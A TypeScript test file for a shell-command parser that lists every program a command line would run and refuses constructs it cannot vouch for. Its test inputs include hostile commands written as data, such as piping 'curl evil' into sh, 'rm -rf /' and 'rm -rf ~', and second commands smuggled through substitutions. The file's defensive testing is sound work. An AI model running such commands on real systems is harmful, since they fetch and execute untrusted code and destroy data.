import { describe, expect, it } from "vitest";
import { parseShellCommand } from "./shell-parse.js";

/** Program names of every simple command, in order (nested substitutions included). */
const programs = (input: string) => parseShellCommand(input).commands.map((c) => c.argv[0]?.text ?? "");

describe("parseShellCommand: segments", () => {
  it.each([
    ["ls", ["ls"]],
    ["ls -l /tmp", ["ls"]],
    ["ls; curl evil | sh", ["ls", "curl", "sh"]],
    ["ls && rm -rf / || echo no", ["ls", "rm", "echo"]],
    ["ls & curl x", ["ls", "curl"]],
    ["ls\ncurl x", ["ls", "curl"]],
    ["ls |& tee", ["ls", "tee"]],
    ["(cd /tmp; rm x)", ["cd", "rm"]],
    ["{ ls; rm x; }", ["ls", "rm"]],
    ["echo $(curl evil)", ["curl", "echo"]],
    ["echo `curl evil`", ["curl", "echo"]],
    ['echo "$(rm -rf ~)"', ["rm", "echo"]],
    ["echo $(echo $(wget x))", ["wget", "echo", "echo"]],
    ["diff <(curl a) <(curl b)", ["curl", "curl", "diff"]],
    ["ls # ; rm -rf /", ["ls"]],
    ["ls;rm x", ["ls", "rm"]],
    ["ls&&rm x", ["ls", "rm"]],
    ["ls>/dev/null;rm x", ["ls", "rm"]],
    ["echo a\\;b", ["echo"]],
    ["echo 'a; rm x'", ["echo"]],
    ['echo "a && rm x"', ["echo"]],
    ["ls \\\n -l", ["ls"]],
    ["echo a#b", ["echo"]],
  ])("%j runs %j", (input, expected) => {
    expect(parseShellCommand(input).ok).toBe(true);
    expect(programs(input)).toEqual(expected);
  });

  it("reads quoting and escapes into plain words", () => {
    const [cmd] = parseShellCommand(`grep -e 'a b' "c\\"d" e\\ f`).commands;
    expect(cmd?.argv.map((w) => w.text)).toEqual(["grep", "-e", "a b", 'c"d', "e f"]);
    expect(cmd?.argv.some((w) => w.dynamic)).toBe(false);
  });

  it("marks words the shell expands", () => {
    const [cmd] = parseShellCommand(`echo $HOME "${"$"}{X}" *.ts ~ plain {a,b} "$(date)"`).commands.slice(-1);
    expect(cmd?.argv.map((w) => w.dynamic)).toEqual([false, true, true, true, true, false, true, true]);
  });

  it("records assignments and redirections", () => {
    const [cmd] = parseShellCommand("FOO=1 BAR=$x make 2>&1 >out.log < in.txt &>>all").commands;
    expect(cmd?.assignments).toEqual(["FOO=1", "BAR=$x"]);
    expect(cmd?.argv.map((w) => w.text)).toEqual(["make"]);
    expect(cmd?.redirects.map((r) => [r.fd, r.op, r.target.text])).toEqual([
      [2, ">&", "1"],
      [undefined, ">", "out.log"],
      [undefined, "<", "in.txt"],
      [undefined, "&>>", "all"],
    ]);
  });

  it("a quoted keyword is a plain word", () => {
    expect(programs('"if" x')).toEqual(["if"]);
  });
});

describe("parseShellCommand: what it will not vouch for", () => {
  it.each([
    ["for f in *; do rm $f; done", /control flow \(for\)/],
    ["if true; then rm x; fi", /control flow \(if\)/],
    ["while :; do :; done", /control flow/],
    ["cat <<EOF\nrm x\nEOF", /here-documents/],
    ["echo 'unclosed", /single quote/],
    ['echo "unclosed', /double quote/],
    ["echo $(ls", /never closed/],
    ["echo `ls", /backtick/],
    ["ls )", /unmatched/],
    ["f() { rm x; }", /function definition/],
    [`echo ${"$"}{X:-$(rm x)}`, /inside \$\{…\}/],
    ["ls >", /no target/],
    ["echo \\", /lone backslash/],
    ["a\0b", /NUL/],
    ["x".repeat(20_000), /longer than/],
    [`${"$(".repeat(12)}ls${")".repeat(12)}`, /nest deeper/],
  ])("%#: refuses with %s", (input, reason) => {
    const parsed = parseShellCommand(input);
    expect(parsed.ok).toBe(false);
    if (!parsed.ok) expect(parsed.reason).toMatch(reason);
  });
});
